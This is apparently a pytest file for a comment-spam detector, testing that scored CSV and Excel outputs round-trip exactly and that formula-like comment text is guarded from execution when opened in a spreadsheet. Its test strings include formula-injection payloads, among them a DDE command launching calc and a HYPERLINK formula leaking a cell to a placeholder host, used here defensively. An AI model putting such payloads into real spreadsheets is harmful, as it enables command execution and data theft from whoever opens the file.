"""What was scored is scored again from what was written: every text, id and verdict comes back; nothing is run."""

from __future__ import annotations

import csv
import json
import os
import shutil
import subprocess
from pathlib import Path

import pytest

from detector.readers import read_comments
from tests.calling import call
from tests.models import handmade_bundle, saved

# Everything that a spreadsheet, a shell or a careless reader could take for something else than words.
TEXTS = (
    "=cmd|' /C calc'!A0", "=1+2", '=HYPERLINK("http://x.example/?"&A1,"点我")', "@SUM(1,2)", "@主播", "+1", "-2+3",
    "=_=", "-", "＝1＋2", "＠主播 加V", "'=1+2", "''", "'好看", "\t=1+1", "\r\n=1+1", " 前面有空格", "后面有空格  ",
    "两行\n第二行", "老式\r\n换行", "制\t表", '他说"好看"', '"', '""', "逗号,分号;竖线|", "👋🏽好👨‍👩‍👧", "ＡＢＣ　１２３", "0012",
    "1e5", "TRUE", "2026-11-11", "12:30", "NULL", "NaN", "None", "加微 abc88888", "微刷", "１＋１", "3.10", "007",
)  # fmt: skip
IDS = ("0001", "7234567890123456789", "7234567890123456790", "1e10", "0x1F", "=u1", "@u2", "u,3", "00", "+86")
# What a workbook's XML does not tell apart, or cannot hold.
NO_CR = [text for text in TEXTS if "\r" not in text]


@pytest.fixture(scope="module")
def model(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return saved(handmade_bundle(), tmp_path_factory.mktemp("model"))


def room(path: Path, texts: tuple[str, ...] | list[str] = TEXTS) -> Path:
    rows = [
        {
            "comment_id": f"{n:019d}", "user_id": IDS[n % len(IDS)], "昵称": f"=名{n}", "text": text,
            "time": f"2026-11-11 20:{n // 60:02}:{n % 60:02}", "备注": TEXTS[-1 - n % 8],
        }
        for n, text in enumerate(texts)
    ]  # fmt: skip
    path.write_text("".join(json.dumps(row, ensure_ascii=False) + "\n" for row in rows), encoding="utf-8")
    return path


def cells(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


RESULTS = ("verdict", "label", "risk", "p_solicitation", "p_bot_flood", "p_fake_review", "reasons")


def scored(capsys: pytest.CaptureFixture[str], model: Path, source: Path, out: Path, *more: str) -> Path:
    done = call(capsys, "score", source, "-o", out, "--model", model, "-q", *more)
    assert (done.code, done.err) == (0, "")
    return out


@pytest.mark.parametrize("flavor", ["raw", "excel"])
def test_scored_csv_is_scored_again_to_the_same(
    tmp_path: Path, model: Path, capsys: pytest.CaptureFixture[str], flavor: str
) -> None:
    once = scored(capsys, model, room(tmp_path / "room.jsonl"), tmp_path / "once", "--csv-flavor", flavor)
    twice = scored(capsys, model, once / "scored.csv", tmp_path / "twice")
    original, _ = read_comments(tmp_path / "room.jsonl")
    again, _ = read_comments(once / "scored.csv")
    assert again.text == original.text == list(TEXTS)
    assert again.user_id == original.user_id
    assert again.comment_id == original.comment_id
    assert again.ts_ms.tolist() == original.ts_ms.tolist()
    first, second = cells(once / "scored.csv"), cells(twice / "scored.csv")
    assert [[row[name] for name in RESULTS] for row in first] == [
        [row[name] for name in RESULTS] for row in second
    ]
    assert len({row["verdict"] for row in first}) > 1
    # The columns of the first run stand beside those of the second.
    assert [row["verdict_in"] for row in second] == [row["verdict"] for row in first]


def test_scored_xlsx_is_scored_again_to_the_same(
    tmp_path: Path, model: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    once = scored(capsys, model, room(tmp_path / "room.jsonl", NO_CR), tmp_path / "once")
    twice = scored(capsys, model, once / "scored.xlsx", tmp_path / "twice")
    original, _ = read_comments(tmp_path / "room.jsonl")
    again, _ = read_comments(once / "scored.xlsx")
    assert again.text == original.text == NO_CR
    assert (again.user_id, again.comment_id) == (original.user_id, original.comment_id)
    first, second = cells(once / "scored.csv"), cells(twice / "scored.csv")
    assert [(row["verdict"], row["label"], row["reasons"]) for row in first] == [
        (row["verdict"], row["label"], row["reasons"]) for row in second
    ]


# Comma, double quote, UTF-8, from the first line; special numbers detected, formulas evaluated: all that could run, runs.
READ_CSV = "--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,0,true"
# The first sheet as it is displayed.
AS_SHOWN = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,true,false,false,1"


def shown_in_a_spreadsheet(path: Path, folder: Path) -> list[list[str]]:
    """What LibreOffice shows of a table that it has opened, cell by cell."""
    office = shutil.which("soffice")
    if office is None:
        pytest.skip("LibreOffice is not here")
    reading = [READ_CSV] if path.suffix == ".csv" else []
    shown = folder / f"shown-{path.name}"
    subprocess.run(
        [
            office, "--headless", f"-env:UserInstallation={(folder / 'profile').as_uri()}", *reading,
            "--convert-to", AS_SHOWN, "--outdir", str(shown), str(path),
        ],
        check=True, capture_output=True, timeout=180, env={**os.environ, "HOME": str(folder)},
    )  # fmt: skip
    (written,) = shown.glob("*.csv")
    with written.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file))


def texts_shown(path: Path, folder: Path) -> list[str]:
    headers, *rows = shown_in_a_spreadsheet(path, folder)
    return [row[headers.index("text")] for row in rows]


@pytest.mark.slow
def test_nothing_is_run_where_a_spreadsheet_opens_the_results(
    tmp_path: Path, model: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    texts = [text for text in NO_CR if text.strip()[:1] in ("=", "+", "-", "@", "＝", "＠", "'")]
    once = scored(
        capsys, model, room(tmp_path / "room.jsonl", texts), tmp_path / "once", "--csv-flavor", "excel"
    )
    assert texts_shown(once / "scored.xlsx", tmp_path) == texts
    # The guard shows, and is all that is added.
    guarded = [text if text == "''" or text == "'好看" else f"'{text}" for text in texts]
    assert texts_shown(once / "scored.csv", tmp_path) == guarded


@pytest.mark.slow
def test_a_spreadsheet_would_run_what_is_not_guarded(
    tmp_path: Path, model: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    raw = scored(capsys, model, room(tmp_path / "room.jsonl", ["=1+2", "好看"]), tmp_path / "raw")
    assert texts_shown(raw / "scored.csv", tmp_path) == ["3", "好看"]
